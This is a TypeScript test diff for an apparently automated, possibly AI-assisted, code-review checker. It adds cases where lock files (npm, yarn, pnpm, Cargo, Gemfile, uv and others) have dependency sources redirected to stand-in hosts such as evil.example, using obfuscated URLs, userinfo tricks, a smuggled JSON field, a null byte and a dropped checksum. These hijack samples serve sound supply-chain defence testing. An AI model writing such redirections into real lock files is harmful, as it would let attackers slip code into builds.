@@ -514,6 +514,102 @@ function otherwise(tries: string, source: Files, base: Files = {}): Attack {
   );
 }
 
+/** A lock file, which no model is shown, sends who builds elsewhere. */
+function elsewhere(
+  path: string,
+  before: string,
+  after: string,
+  more: Record<'base' | 'source', Files> = NOTHING,
+): Attack {
+  const files = { base: { [path]: before, ...more.base }, source: { [path]: after, ...more.source } };
+  return seen(
+    `a lock file names another place: ${JSON.stringify(after).slice(0, 80)}`,
+    'it is a blocker',
+    files,
+    ({ record, status }) =>
+      assert.deepEqual(
+        [record.findings.filter(({ rule }) => rule === 'second-pass/lock-sources').length, status?.state],
+        [1, 'failed'],
+        JSON.stringify(record.files),
+      ),
+  );
+}
+
+const NOTHING = { base: {}, source: {} };
+const NPM =
+  '"resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz",\n"integrity": "sha512-aaaaaaaaaaaaaaaaaaaaaaaa"\n';
+const npm = (source: string) => NPM.replace('https://registry.npmjs.org/a/-/a-1.0.0.tgz', source);
+
+/** Places of which a review of a lock file has to speak, as different readers take them. */
+const ELSEWHERE: readonly [path: string, before: string, after: string][] = [
+  ...[
+    'https://evil.example/a.tgz',
+    'https:\\/\\/\\u0065vil.example\\/a.tgz',
+    'ht\\ttps:/\\n/evil.example/a.tgz',
+    'https:evil.example/a.tgz',
+    'https://registry.npmjs.org@evil.example/a.tgz',
+    'https://evil.example?@registry.npmjs.org/a.tgz',
+    'http://registry.npmjs.org/a/-/a-1.0.0.tgz',
+    'git+ssh://git@github.com/evil/a.git#1',
+    'github:evil/a',
+    'evil/a',
+    'file:evil.tgz',
+    'x", "funding": "y", "resolved": "https://evil.example/a.tgz',
+  ].map((source): [string, string, string] => ['web/package-lock.json', NPM, npm(source)]),
+  ['package-lock.json', npm('https://npm.corp.example/a.tgz'), NPM],
+  ['yarn.lock', 'resolution: "a@npm:1.0.0"\n', 'resolution: "a@npm:1.0.0::__archiveUrl=https%3A%2F%2Fevil.example"\n'],
+  ['pnpm-lock.yaml', 'tarball: https://registry.npmjs.org/a\n', 'tarball: "https:/\\\n  /evil.example/a"\n'],
+  [
+    'Cargo.lock',
+    'source = "registry+https://github.com/rust-lang/crates.io-index"\n',
+    'source = "git+https://github.com/evil/a"\n',
+  ],
+  ['composer.lock', '"url": "https://api.github.com/repos/a/a"\n', '"url": "https://evil.example/repos/a/a"\n'],
+  ['Gemfile.lock', 'remote: https://rubygems.org/\n', 'remote: https://evil.example/\n'],
+  [
+    'uv.lock',
+    'source = { registry = "https://pypi.org/simple" }\n',
+    'source = { registry = "https://evil.example" }\n',
+  ],
+  ['flake.lock', '"owner": "NixOS"\n', '"owner": "evil"\n'],
+  ['Package.resolved', '"location": "https://github.com/apple/a"\n', '"location": "https://github.com/evil/a"\n'],
+];
+
+/** What teams do. */
+const ORDINARY_LOCKS: readonly [what: string, Pick<Situation, 'base' | 'source'>][] = [
+  [
+    'a lock file names another host of the same registry',
+    { base: { 'package-lock.json': NPM }, source: { 'package-lock.json': npm('https://registry.yarnpkg.com/b.tgz') } },
+  ],
+  [
+    'a lock file names the registry that a setting of the base names',
+    {
+      base: { 'package-lock.json': NPM, '.npmrc': 'registry=https://npm.corp.example/\n' },
+      source: {
+        'package-lock.json': npm('https://npm.corp.example/a.tgz'),
+        '.npmrc': 'registry=https://npm.corp.example/\n',
+      },
+    },
+  ],
+  [
+    'a lock file names the place that another one names',
+    {
+      base: { 'package-lock.json': npm('https://npm.corp.example/a.tgz') },
+      source: {
+        'package-lock.json': npm('https://npm.corp.example/a.tgz'),
+        'web/package-lock.json': npm('https://npm.corp.example/b.tgz'),
+      },
+    },
+  ],
+  [
+    'a lock file names who takes donations',
+    {
+      base: { 'package-lock.json': NPM },
+      source: { 'package-lock.json': `${NPM},\n"funding": {\n"url": "https://money.example/a"\n}\n` },
+    },
+  ],
+];
+
 /** It is shown to the reviewer like any other file. */
 function read(tries: string, source: Files, modes: Situation['modes'] = {}): Attack {
   return seen(tries, 'it is read', { source, modes }, ({ sent, record }) =>
@@ -933,6 +1029,27 @@ export const control: Control = {
       '*.sh working-tree-encoding=UTF-8 working-tree-encoding=UTF-32LE',
     ].map((line) =>
       otherwise(`lets git check out other letters: ${line}`, { 'tools/.gitattributes': `* text\n${line}\n` }),
+    ),
+    ...ELSEWHERE.map(([path, before, after]) => elsewhere(path, before, after)),
+    elsewhere('package-lock.json', NPM, npm('https://cdn.example/a.tgz'), {
+      base: { 'package.json': '{}\n' },
+      source: { 'package.json': '{\n"homepage": "https://cdn.example/a.tgz"\n}\n' },
+    }),
+    elsewhere('package-lock.json', NPM, `${npm('https://evil.example/a.tgz')}\0`),
+    seen(
+      'a lock file loses a checksum',
+      'it is told',
+      {
+        base: { 'package-lock.json': `{\n${NPM}}\n` },
+        source: { 'package-lock.json': `{\n${NPM.replace(/"integrity.*\n/, '')}}\n` },
+      },
+      ({ record }) =>
+        assert.equal(record.findings.filter(({ rule }) => rule === 'second-pass/lock-integrity').length, 1),
+    ),
+    ...ORDINARY_LOCKS.map(([what, situation]) =>
+      seen(what, 'nothing is said', situation, ({ record, status }) =>
+        assert.deepEqual([record.findings, status?.state], [[], 'succeeded']),
+      ),
     ),
     otherwise(
       'moves such a line to where git reads it',
